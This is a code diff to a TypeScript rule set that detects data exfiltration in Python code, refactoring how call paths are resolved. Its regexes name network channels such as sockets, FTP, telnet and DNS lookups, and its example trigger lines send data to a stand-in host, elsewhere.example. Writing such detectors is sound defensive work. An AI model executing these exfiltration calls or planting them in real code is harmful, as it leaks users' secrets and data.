@@ -1,9 +1,8 @@
 import { carriesSecret, packs, readsSecret } from "../flow.js";
 import { bringsData, destinationOf } from "../network.js";
 import type { SyntaxNode } from "../node.js";
-import { globalPath } from "../read.js";
+import { calleePath } from "../read.js";
 import { nodeTypes, type SyntaxRule, weights } from "../rule.js";
-import type { Syntax } from "../syntax.js";
 
 const family = "data_exfiltration";
 
@@ -16,8 +15,6 @@ const channels =
   /^(?:socket\.socket\(\)\.(?:connect|connect_ex|sendto)|socket\.create_connection|ftplib\.FTP\w*|telnetlib\.Telnet|websockets?\.(?:connect|create_connection)|websocket\.WebSocket\(\)\.connect|xmlrpc\.client\.ServerProxy)$/;
 /** A name to look up can be a message itself. */
 const lookups = /^(?:socket\.(?:gethostbyname|getaddrinfo)|dns\.resolver\.\w+)$/;
-
-const pathOf = (node: SyntaxNode, syntax: Syntax): string => globalPath(node.callee, syntax) ?? "";
 
 /** The host is made of parts: `secret + ".elsewhere.example"`. */
 const isComposed = (node: unknown): boolean =>
@@ -34,7 +31,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     ignores: "import os, requests; requests.get(url, headers={'Authorization': os.environ['API_TOKEN']})",
     on: nodeTypes("CallExpression"),
     matches: (node, _index, syntax) =>
-      senders.test(pathOf(node, syntax)) &&
+      senders.test(calleePath(node, syntax)) &&
       (node.arguments as unknown[]).some((argument) => carriesSecret(argument, syntax)),
   },
   {
@@ -46,7 +43,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     ignores: "import httpx; httpx.post('http://localhost:8000/', json=data)",
     on: nodeTypes("CallExpression"),
     matches: (node, _index, syntax) =>
-      senders.test(pathOf(node, syntax)) &&
+      senders.test(calleePath(node, syntax)) &&
       destinationOf(node, syntax) === "elsewhere" &&
       (bringsData(node, syntax) || packs((node.arguments as unknown[])[0], syntax)),
   },
@@ -59,7 +56,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     ignores: "import socket; s = socket.socket(); s.connect(('127.0.0.1', 8080))",
     on: nodeTypes("CallExpression"),
     matches: (node, _index, syntax) => {
-      const path = pathOf(node, syntax);
+      const path = calleePath(node, syntax);
       if (lookups.test(path)) return isComposed((node.arguments as unknown[])[0]);
       const to = path.endsWith("sendto") ? { ...node, arguments: (node.arguments as unknown[]).slice(1) } : node;
       return channels.test(path) && destinationOf(to, syntax) === "elsewhere";
@@ -73,7 +70,7 @@ export const pythonExfiltration: readonly SyntaxRule[] = [
     triggers: "import requests; requests.get('https://elsewhere.example/' + name)",
     ignores: "requests = load(); requests.get('name')",
     on: nodeTypes("CallExpression"),
-    matches: (node, _index, syntax) => senders.test(pathOf(node, syntax)) && destinationOf(node, syntax) !== "here",
+    matches: (node, _index, syntax) => senders.test(calleePath(node, syntax)) && destinationOf(node, syntax) !== "here",
   },
   {
     name: "python-secret-read",
